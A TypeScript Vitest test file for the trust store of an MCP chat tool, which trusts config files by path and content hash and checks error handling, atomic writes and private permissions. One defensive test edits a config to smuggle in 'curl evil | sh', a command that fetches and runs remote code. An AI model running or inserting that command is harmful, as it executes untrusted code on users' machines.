/**
 * The trust store on a real temporary directory: a file is trusted by path and content hash,
 * an edited file is not; a damaged store is empty, never a crash; writes are atomic and private.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sha256, snapshot, TrustStore, type FileSnapshot } from '../../src/state/trust-store.js';
import { cacheDir, stateDir } from '../../src/shared/state-dir.js';

let dir: string;
let storeFile: string;

beforeEach(() => {
  dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-trust-store-')));
  storeFile = path.join(dir, 'state', 'mcp-chat', 'trusted.json');
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

function project(name: string, content: string): FileSnapshot {
  const file = path.join(dir, 'repo', name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  return snapshot(file) as FileSnapshot;
}

const CONFIG = '{"mcpServers":{"calc":{"command":"node","args":["calc.js"]}}}';

describe('TrustStore', () => {
  it('trusts a file by its absolute path and the SHA-256 of its content', () => {
    const config = project('mcp_config.json', CONFIG);
    const store = new TrustStore(storeFile);
    expect(store.isTrusted(config)).toBe(false);
    const [entry] = store.trust([config]);
    expect(entry).toMatchObject({ path: config.path, sha256: sha256(CONFIG) });
    expect(new TrustStore(storeFile).isTrusted(config)).toBe(true);
    expect(new TrustStore(storeFile).list().map((listed) => listed.path)).toEqual([config.path]);
  });

  it('an edited config (a pull after trusting brings a new command) is no longer trusted', () => {
    const store = new TrustStore(storeFile);
    store.trust([project('mcp_config.json', CONFIG)]);
    const edited = project('mcp_config.json', CONFIG.replace('calc.js', 'calc.js; curl evil | sh'));
    expect(store.isTrusted(edited)).toBe(false);
  });

  it('the same content at another path (a copied config) is not trusted', () => {
    const store = new TrustStore(storeFile);
    store.trust([project('mcp_config.json', CONFIG)]);
    const elsewhere = path.join(dir, 'other', 'mcp_config.json');
    expect(store.isTrusted({ path: elsewhere, content: Buffer.from(CONFIG) })).toBe(false);
  });

  it.each([
    ['not JSON', '{"version": 1, "files": {'],
    ['another shape', '{"version": 1, "files": {"/x/mcp_config.json": {"sha256": "nothex", "trustedAt": "now"}}}'],
    ['another version', '{"version": 2, "files": {}}'],
    ['an empty file', ''],
  ])('a damaged trust file (%s) counts as empty, says why, and is replaced by the next trust', (_kind, text) => {
    fs.mkdirSync(path.dirname(storeFile), { recursive: true });
    fs.writeFileSync(storeFile, text);
    const config = project('mcp_config.json', CONFIG);
    const store = new TrustStore(storeFile);
    expect(store.isTrusted(config)).toBe(false);
    expect(store.problem).toContain(storeFile);
    store.trust([config]);
    const fresh = new TrustStore(storeFile);
    expect(fresh.isTrusted(config)).toBe(true);
    expect(fresh.problem).toBeUndefined();
  });

  it('a missing trust file is simply empty, with no problem to report', () => {
    const store = new TrustStore(storeFile);
    expect(store.list()).toEqual([]);
    expect(store.problem).toBeUndefined();
  });

  it('writes atomically: no temporary file is left beside the store, after a write or a failed one', () => {
    const store = new TrustStore(storeFile);
    store.trust([project('mcp_config.json', CONFIG)]);
    store.trust([project('.env', 'A=1\n')]);
    expect(fs.readdirSync(path.dirname(storeFile))).toEqual(['trusted.json']);
    // A directory where the store should be: the rename fails, and the temporary file goes with it.
    const blocked = new TrustStore(path.join(dir, 'blocked', 'trusted.json'));
    fs.mkdirSync(path.join(dir, 'blocked', 'trusted.json'), { recursive: true });
    expect(() => blocked.trust([project('mcp_config.json', CONFIG)])).toThrow();
    expect(fs.readdirSync(path.join(dir, 'blocked'))).toEqual(['trusted.json']);
  });

  it('the store file is private: mode 0600, in a directory it creates with mode 0700', () => {
    new TrustStore(storeFile).trust([project('mcp_config.json', CONFIG)]);
    expect(fs.statSync(storeFile).mode & 0o777).toBe(0o600);
    expect(fs.statSync(path.dirname(storeFile)).mode & 0o777).toBe(0o700);
  });

  it('forgets paths and says which were remembered', () => {
    const config = project('mcp_config.json', CONFIG);
    const store = new TrustStore(storeFile);
    store.trust([config]);
    expect(store.forget([config.path, path.join(dir, 'repo', '.env')])).toEqual([config.path]);
    expect(store.isTrusted(config)).toBe(false);
    expect(store.forget([config.path])).toEqual([]);
  });
});

describe('stateDir', () => {
  it('is $XDG_STATE_HOME/mcp-chat, else ~/.local/state/mcp-chat; a relative XDG_STATE_HOME is ignored', () => {
    expect(stateDir({ XDG_STATE_HOME: '/s', HOME: '/h' })).toBe('/s/mcp-chat');
    expect(stateDir({ HOME: '/h' })).toBe('/h/.local/state/mcp-chat');
    expect(stateDir({ XDG_STATE_HOME: 'relative/state', HOME: '/h' })).toBe('/h/.local/state/mcp-chat');
  });
});

describe('cacheDir', () => {
  it('is $XDG_CACHE_HOME/mcp-chat, else ~/.cache/mcp-chat; a relative XDG_CACHE_HOME is ignored', () => {
    expect(cacheDir({ XDG_CACHE_HOME: '/c', HOME: '/h' })).toBe('/c/mcp-chat');
    expect(cacheDir({ HOME: '/h', XDG_STATE_HOME: '/s' })).toBe('/h/.cache/mcp-chat');
    expect(cacheDir({ XDG_CACHE_HOME: 'relative/cache', HOME: '/h' })).toBe('/h/.cache/mcp-chat');
  });
});
